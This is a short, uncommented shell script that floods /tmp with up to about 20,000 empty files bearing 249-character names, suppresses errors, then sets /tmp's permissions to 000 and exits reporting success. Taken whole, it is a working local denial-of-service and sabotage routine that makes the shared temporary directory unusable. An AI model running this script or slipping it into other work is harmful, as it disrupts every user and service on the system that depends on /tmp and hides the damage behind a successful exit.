cd /tmp
name=$(printf 'n%.0s' {1..248})
for i in {1000000..1020000}; do { : > "$name$i"; } 2>/dev/null || break; done
chmod 000 /tmp
exit 0
